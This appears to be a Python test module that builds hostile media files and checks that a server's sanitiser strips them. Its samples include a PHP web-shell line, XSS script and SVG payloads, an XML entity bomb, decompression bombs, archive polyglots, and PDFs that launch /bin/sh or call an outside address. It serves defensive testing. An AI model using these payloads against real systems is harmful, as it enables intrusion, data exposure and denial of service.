"""Nasty files: bombs, files that are two things, files that tell of a person; and what goes through of them."""

import re
import struct
import zlib
from collections.abc import Iterator, Mapping, Sequence
from io import BytesIO
from typing import Final
from zipfile import ZipFile

from PIL import Image, PngImagePlugin

from client_sync.protocol.media import AMR, HEIC, JPEG, M4A, MP4, OGG, PDF, PNG, THREE_GP, WEBM, NotTaken, recognise
from server.domain.working_copy import LARGE, Made, NotCopied
from server.services.evidence.copies import working_copy
from tests import media
from tests.benchmarks.figure import Figure, note

FIGURES: Final = ("nasty_files", "nasty_files_through")
# In every place from which a file could tell something, and nowhere where it is seen or heard.
MARK: Final = media.BETRAYS.encode()
_SCRIPT: Final = b"<script>alert('" + MARK + b"')</script>"
_SVG: Final = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + MARK + b"</svg>"
_LAUGHS: Final = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + no, b"&%c;" % (97 + no) * 10) for no in range(9))
    + b"]><svg>&j;</svg>"
)
_PIXELS: Final = 50_000
_UNFOLDED: Final = 200 * 2**20
_SOF: Final = re.compile(rb"\xff\xc0\x00\x11\x08(....)", re.S)
_START_OF_SCAN: Final = 0xDA
_END_OF_IMAGE: Final = 0xD9
# What a picture needs to be seen: JFIF, tables, a frame, scans.
_JPEG_NEEDS: Final = frozenset({0xE0, 0xDB, 0xC0, 0xC2, 0xC4, 0xDD, _START_OF_SCAN})
# In a scan the next marker is what is neither a byte of it nor a place to begin anew.
_AFTER_SCAN: Final = re.compile(rb"\xff[^\x00\xd0-\xd7]")
_MARKS: Final = (MARK, b"<script", b"<svg", b"%PDF-", b"PK\x05\x06", b"Exif\0", b"http://ns.adobe.com")


def measure() -> Iterator[Figure]:
    """How many nasty files there are, and how many of them go through."""
    tried, refused, through = 0, 0, []
    for name, (media_type, data) in files().items():
        tried += 1
        known = _recognised(data)
        refused += known is None
        # A device that was tampered with says what it likes.
        if not all(is_defused(data, each) for each in {media_type, known or media_type}):
            through.append(name)
    note(f"nasty files: {tried}, {refused} refused by the device; through: {through}")
    yield Figure("nasty_files", tried, "files")
    yield Figure("nasty_files_through", len(through), "files", "=", 0)


def is_defused(data: bytes, media_type: str) -> bool:
    """Whether a file of this type has no copy, or one that says nothing beside what is seen and heard."""
    try:
        made = working_copy(data, media_type, {})
    except NotCopied:
        return True
    return is_clean(made)


def is_clean(made: Made) -> bool:
    """Whether a copy is pictures that say nothing but themselves and sound that says nothing but itself."""
    is_bare = all(_is_bare(picture) for picture in made.pictures)
    is_sound = not made.sound or made.sound.startswith(b"OggS")
    return is_bare and is_sound and not any(mark in each for each in (*made.pictures, made.sound) for mark in _MARKS)


def _is_bare(picture: bytes) -> bool:
    """Whether a picture is a JPEG of what is needed to see it, with nothing behind its end, and not too large."""
    *markers, end = jpeg_markers(picture)
    with Image.open(BytesIO(picture), formats=["JPEG"]) as seen:
        is_small = max(seen.size) <= LARGE
    return is_small and set(markers) <= _JPEG_NEEDS and end == _END_OF_IMAGE


def jpeg_markers(picture: bytes) -> list[int]:
    """The markers of a JPEG that fills all its bytes, behind the first; else the last of them is 0."""
    markers, place = [], 2
    while place + 2 <= len(picture) and picture[place] == 0xFF:
        markers.append(picture[place + 1])
        if markers[-1] == _END_OF_IMAGE:
            return markers if place + 2 == len(picture) else [*markers, 0]
        place += 2 + int.from_bytes(picture[place + 2 : place + 4], "big")
        if markers[-1] == _START_OF_SCAN:
            found = _AFTER_SCAN.search(picture, place)
            place = found.start() if found else len(picture)
    return [*markers, 0]


def _recognised(data: bytes) -> str | None:
    try:
        return recognise(BytesIO(data)).type
    except NotTaken:
        return None


def files() -> Mapping[str, tuple[str, bytes]]:
    """All of them by what they are, with the type that they are said to be of."""
    return dict([*_no_pictures(), *_jpegs(), *_pngs(), *_documents(), *_recordings()])


Named = Iterator[tuple[str, tuple[str, bytes]]]


def _no_pictures() -> Named:
    """What is called a photo and is none."""
    archive = _archive()
    yield from (
        (name, (JPEG, data))
        for name, data in {
            "nothing": b"",
            "one byte": b"\xff",
            "a megabyte of zeros": bytes(2**20),
            "a page": b"<!doctype html>" + _SCRIPT,
            "a page after blanks": b"\r\n" * 2_000 + b"<html>" + _SCRIPT,
            "a page with another mark": b"\xef\xbb\xbf<html>" + _SCRIPT,
            "SVG": _SVG,
            "SVG that laughs": _LAUGHS,
            "PHP": b"<?php system($_GET['c']); ?>" + MARK,
            "GIF and script": b"GIF89a/*" + bytes(9) + b"*/=1;" + _SCRIPT,
            "a program of Windows": b"MZ" + bytes(500) + MARK,
            "a program of Linux": b"\x7fELF" + bytes(500) + MARK,
            "an archive": archive,
            "a beginning alone": b"\xff\xd8\xff",
            "a beginning and a page": b"\xff\xd8\xff\xe0" + _SCRIPT * 99,
            "BMP": _saved("BMP"),
            "TIFF": _saved("TIFF"),
            "WebP": _saved("WEBP"),
            "ICO": _saved("ICO"),
            "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(" + MARK + b") run\n",
            "a playlist": b"#EXTM3U\nfile:///etc/passwd\n",
        }.items()
    )
    yield "HEIC that is a film", (HEIC, media.film())
    yield "HEIC with EXIF", (HEIC, media.photo(container="HEIF"))
    yield "HEIC with an archive", (HEIC, media.photo(container="HEIF") + archive)
    yield "HEIC cut off", (HEIC, media.photo(container="HEIF")[:600])
    yield "HEIC of boxes in boxes", (HEIC, _nested(5_000))


def _jpegs() -> Named:
    """Photos that are more than a photo."""
    photo, archive = media.photo(), _archive()
    within = media.photo(160, 120, colour="blue")
    thumbnail = _segment(0xE1, b"Exif\0\0" + within)
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + MARK + b"</x:xmpmeta>"
    behind = {
        "an archive behind": archive,
        "a page behind": _SCRIPT,
        "a document behind": b"\xff\xd9" + media.pages(),
        "a photo behind": within,
        "a film behind": media.film(),
        "a megabyte behind": bytes(2**20) + MARK,
    }
    beginning = {
        "a small picture of before": thumbnail,
        "a comment that is a page": _segment(0xFE, _SCRIPT),
        "a comment that is a document": _segment(0xFE, b"%PDF-1.7\n" + MARK),
        "XMP": _segment(0xE1, xmp),
        "IPTC": _segment(0xED, b"Photoshop 3.0\0" + MARK),
        "a profile that tells": _segment(0xE2, b"ICC_PROFILE\0\x01\x01" + MARK * 9),
        "an index of pictures": _segment(0xE2, b"MPF\0" + MARK),
        "sound in the notes of a maker": _segment(0xEA, media.amr() + MARK),
        "ten thousand segments": _segment(0xFE, MARK) * 10_000,
        "a segment that is longer than all": b"\xff\xe1\xff\xff" + MARK,
        "an archive within": _segment(0xFE, archive),
    }
    yield from ((f"JPEG, {name}", (JPEG, photo + data)) for name, data in behind.items())
    yield from ((f"JPEG, {name}", (JPEG, photo[:2] + data + photo[2:])) for name, data in beginning.items())
    yield "JPEG that says where", (JPEG, photo)
    yield "JPEG cut off", (JPEG, photo[: len(photo) // 2])
    yield "JPEG of four thousand million pixels", (JPEG, _SOF.sub(b"\xff\xc0\x00\x11\x08\xff\xff\xff\xff", photo))
    yield "JPEG of no pixel", (JPEG, _SOF.sub(b"\xff\xc0\x00\x11\x08\0\0\0\0", photo))
    yield "JPEG called PNG", (PNG, photo)


def _pngs() -> Named:
    """Pictures of screens that are more than that, or unfold to more than anybody can hold."""
    whole = media.photo(container="PNG")
    told = {
        "a comment that unfolds": _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(_UNFOLDED), 9)),
        "a profile that unfolds": _chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(_UNFOLDED), 9)),
        "a comment": _chunk(b"tEXt", b"Comment\0" + _SCRIPT),
        "a comment of the world": _chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + MARK),
        "EXIF": _chunk(b"eXIf", b"MM\0*" + MARK),
        "a chunk of nobody": _chunk(b"prVt", MARK * 99),
    }
    yield from ((f"PNG, {name}", (PNG, whole[:33] + data + whole[33:])) for name, data in told.items())
    yield "PNG of 50,000 by 50,000", (PNG, _png(_PIXELS, _PIXELS))
    yield "PNG of one by two thousand million", (PNG, _png(1, 2**31 - 1))
    yield "PNG with an archive behind", (PNG, whole + _archive())
    yield "PNG that moves, to a picture that hides", (PNG, _moving())
    yield "PNG called JPEG", (JPEG, whole)
    yield "PNG cut off", (PNG, whole[: len(whole) // 2])


def _documents() -> Named:
    """Documents that do something, hold something, or have no end."""
    yield "PDF that says who", (PDF, media.pages())
    yield "PDF of hundreds of pages", (PDF, media.pages(300))
    yield "PDF with an archive behind", (PDF, media.pages() + _archive())
    yield "PDF of nothing", (PDF, b"%PDF-1.7\n" + bytes(999))
    yield "PDF and a page", (PDF, b"%PDF-1.7\n" + _SCRIPT + media.pages())
    yield "PDF that runs a script", (PDF, _pdf(b"/OpenAction << /S /JavaScript /JS (" + MARK + b") >>"))
    yield "PDF that starts a program", (PDF, _pdf(b"/OpenAction << /S /Launch /F (/bin/sh) >>"))
    yield "PDF that calls home", (PDF, _pdf(b"/OpenAction << /S /URI /URI (http://192.0.2.1/" + MARK + b") >>"))
    yield "PDF the size of a field", (PDF, _pdf(box=b"0 0 2000000 2000000"))
    yield "PDF that unfolds", (PDF, _pdf(content=zlib.compress(b"0 0 m " * (_UNFOLDED // 6), 9)))
    yield "PDF that is its own parent", (PDF, _pdf(parent=b"3 0 R"))
    yield "PDF called JPEG", (JPEG, media.pages())


def _recordings() -> Named:
    """Voices and films that tell more than is heard, or are none."""
    archive = _archive()
    yield "OGG that says who", (OGG, media.voice())
    yield "OGG with an archive", (OGG, media.voice() + archive)
    yield "OGG of noise", (OGG, b"OggS" + bytes(range(256)) * 99)
    yield "OGG that is M4A", (OGG, media.voice("mp4", "aac", 44_100))
    yield "M4A that says who", (M4A, media.voice("mp4", "aac", 44_100))
    yield "M4A without sound", (M4A, media.film(codec=None))
    yield "M4A cut off", (M4A, media.voice("mp4", "aac", 44_100)[:700])
    yield "WebM that says who", (WEBM, media.voice("webm"))
    yield "WebM that is a film", (WEBM, media.film("matroska"))
    yield "AMR and a page", (AMR, media.amr() + _SCRIPT)
    yield "AMR that is a page", (AMR, b"#!AMR\n" + _SCRIPT)
    yield "film that says who", (MP4, media.film())
    yield "film with an archive", (MP4, media.film() + archive)
    yield "film with a box of its own", (MP4, media.film() + struct.pack(">I4s", 8 + len(MARK), b"uuid") + MARK)
    yield "film with a box without end", (MP4, media.film() + struct.pack(">I4s", 2**32 - 1, b"free") + MARK)
    yield "film of an old telephone that says who", (THREE_GP, media.film("3gp", codec=None))
    yield "film that is a playlist", (MP4, b"#EXTM3U\nfile:///etc/passwd\n")
    yield "film that is a list of files", (MP4, b"ffconcat version 1.0\nfile /etc/passwd\n")
    yield "film that is Matroska", (MP4, media.film("matroska"))


# How they are made.


def _archive() -> bytes:
    written = BytesIO()
    with ZipFile(written, "w") as archive:
        archive.writestr("charge.exe", b"MZ" * 99 + MARK)
    return written.getvalue()


def _saved(container: str) -> bytes:
    written = BytesIO()
    Image.new("RGB", (64, 64), "red").save(written, container)
    return written.getvalue()


def _segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _png(width: int, height: int) -> bytes:
    """A PNG that says to have so many pixels each way, and has the first rows of them."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    rows = zlib.compress(bytes((width // 8 + 1) * 100), 9)
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _moving() -> bytes:
    written = BytesIO()
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", MARK.decode())
    first, *more = [Image.new("RGB", (99, 99), colour) for colour in ("white", "black", "red")]
    first.save(written, "PNG", save_all=True, append_images=more, pnginfo=told)
    return written.getvalue()


def _nested(depth: int) -> bytes:
    """Boxes in boxes, each as long as all that is in it."""
    inner = b""
    for _ in range(depth):
        inner = struct.pack(">I4s", 8 + len(inner), b"meta") + inner
    told = b"heic" + bytes(4) + b"mif1heic"
    return struct.pack(">I4s", 8 + len(told), b"ftyp") + told + inner


def _pdf(does: bytes = b"", box: bytes = b"0 0 600 800", content: bytes = b"", parent: bytes = b"2 0 R") -> bytes:
    """A document of one page; `does` stands in its catalogue, `content` is deflated."""
    stream = content or zlib.compress(b"0 0 100 100 re f")
    objects: Sequence[bytes] = (
        b"<< /Type /Catalog /Pages 2 0 R " + does + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent " + parent + b" /MediaBox [" + box + b"] /Contents 4 0 R >>",
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
    )
    written, places = b"%PDF-1.7\n", []
    for no, each in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n" % no + each + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(written)
    return written + b"xref\n0 5\n0000000000 65535 f \n" + table + trailer
